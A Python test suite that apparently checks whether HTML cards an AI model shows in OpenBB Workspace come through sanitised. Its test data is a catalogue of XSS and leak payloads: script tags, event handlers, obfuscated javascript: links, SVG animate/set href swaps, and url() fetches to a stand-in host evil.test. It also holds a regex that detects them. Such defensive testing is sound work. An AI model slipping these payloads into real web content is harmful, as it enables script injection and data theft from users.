"""HTML that a model has shown in OpenBB Workspace: nothing in it may run or fetch."""

import json
import re

from fakes import call, say
from judging import all_of, check, scenario
from stage import Server, Stage


def artifacts(stage: Stage, server: Server, html: str) -> tuple[list[str], bool]:
    """The contents of HTML artifacts that reach the client, and whether the tool was offered."""
    offered = []

    def script(asked):
        if asked.is_after_a_tool:
            return say("done")
        tool = next((one for one in asked.tools if "html" in one["name"].lower()), None)
        if tool is None:
            return say("no such tool")
        offered.append(tool["name"])
        names = tool["parameters"].get("properties", {})
        values = {"name": "Card", "title": "Card", "description": "d", "content": html, "html": html}
        return call(tool["name"], {name: value for name, value in values.items() if name in names})

    text = server.query(f"make a card {stage.says(script)}")[2]
    found = []
    for line in text.splitlines():
        if line.startswith("data:") and '"html"' in line:
            data = json.loads(line[5:])
            if data.get("type") == "html":
                found.append(str(data.get("content")))
    return found, bool(offered)


def none_of(stage: Stage, pages: dict[str, str]) -> None:
    server, wrong = stage.shared(), []
    good, offered = artifacts(stage, server, "<b>good</b>")
    check(offered and good == ["<b>good</b>"], f"a harmless card is shown (else this scenario is blind): {good}")
    for name, html in pages.items():
        for content in artifacts(stage, server, html)[0]:
            if found := ACTIVE.search(content):
                wrong.append(f"{name}: {found.group()!r} was shown")
            elif len(content) > 200_000:
                wrong.append(f"{name}: {len(content):,} characters were shown")
    all_of(wrong)


# A sanitiser may refuse the whole document or show what is left of it; in what is shown, nothing may run or fetch.
ACTIVE = re.compile(
    r"evil\.test|javascript:|java\s*script:|alert\(|url\(|image-set\(|@import|<\?|<!\[CDATA|\bon\w+\s*="
    r"|<(?:script|style|iframe|form|object|embed|meta|base|link|animate|set|image|use|foreignobject|math|template|textarea|video)\b",
    re.IGNORECASE,
)


@scenario("html-animated-links")
def animated(stage: Stage) -> None:
    """SVG that animates or sets an address to javascript: or to a foreign host (animate, set; values, to, from, by) is not in what is shown."""
    none_of(
        stage,
        {
            "animate values=javascript": '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text y="9">x</text></a></svg>',
            "animate xlink:href": '<svg><a><animate attributeName="xlink:href" values="javascript:alert(1);javascript:alert(2)"/><text y="9">x</text></a></svg>',
            "set to=javascript": '<svg><a><set attributeName="href" to="javascript:alert(1)"/><text y="9">x</text></a></svg>',
            "set to=https": '<svg><image><set attributeName="href" to="https://evil.test/?leak"/></image></svg>',
            "animate from": '<svg><image><animate attributeName="href" from="https://evil.test/a" to="https://evil.test/b" dur="1s"/></image></svg>',
            "animate by": '<svg><a><animate attributeName="href" by="javascript:alert(1)"/></a></svg>',
            "attributename in lower case": '<svg><a><set attributename="href" to="javascript:alert(1)"/></a></svg>',
        },
    )


@scenario("html-fetching-attributes")
def fetching(stage: Stage) -> None:
    """Presentation attributes of SVG that fetch (mask, fill, filter, clip-path, marker, cursor with url(https://…)) are not in what is shown."""
    marks = ("mask", "fill", "stroke", "filter", "clip-path", "marker-start", "marker-end", "cursor")
    none_of(stage, {f"{name}=url(https)": f'<svg><rect {name}="url(https://evil.test/?leak#a)" width="9" height="9"/></svg>' for name in marks})


@scenario("html-held")
def held(stage: Stage) -> None:
    """Scripts, handlers, frames, forms, foreign images, styles that fetch, links to javascript:, comments and CDATA tricks, and HTML over 200,000 bytes are not in what is shown."""
    none_of(
        stage,
        {
            "script": "<script>alert(1)</script>", "handler": '<b onclick="alert(1)">x</b>', "onload in svg": "<svg onload=alert(1)>", "image": '<img src="https://evil.test/x">', "srcset": '<img srcset="https://evil.test/x 1x">',
            "iframe": '<iframe src="https://evil.test"></iframe>', "srcdoc": '<iframe srcdoc="<script>1</script>"></iframe>', "form": '<form action="https://evil.test"><input></form>', "formaction": '<button formaction="https://evil.test">x</button>',
            "link": '<link rel=stylesheet href="https://evil.test/x">', "meta": '<meta http-equiv=refresh content="0;url=https://evil.test">', "base": '<base href="https://evil.test/">', "style url": '<div style="background:url(https://evil.test/x)">x</div>',
            "style element": "<style>b{background:url('https://evil.test/x')}</style>", "import": "<style>@import 'https://evil.test/x';</style>", "escaped style": '<div style="background:u\\72l(https://evil.test/x)">x</div>', "image-set": "<div style=\"background:image-set('https://evil.test/x' 1x)\">x</div>",
            "javascript link": '<a href="javascript:alert(1)">x</a>', "javascript link, spaced": '<a href=" &#9;java\nscript:alert(1)">x</a>', "svg image": '<svg><image href="https://evil.test/x"/></svg>', "use": '<svg><use href="https://evil.test/x#a"/></svg>',
            "foreignObject": "<svg><foreignObject><b>x</b></foreignObject></svg>", "math": "<math><mi xlink:href=javascript:1>x</mi></math>", "comment": "<!--><script>alert(1)</script>-->", "cdata": "<![CDATA[><script>alert(1)</script>]]>", "textarea": "<textarea><img src=https://evil.test></textarea>",
            "template": "<template><script>1</script></template>", "object": '<object data="https://evil.test"></object>', "embed": '<embed src="https://evil.test">', "video poster": '<video poster="https://evil.test/x"></video>', "processing instruction": "<?xml-stylesheet href='https://evil.test'?>", "too long": "<b>" + "a" * 250_000 + "</b>",
        },
    )  # fmt: skip
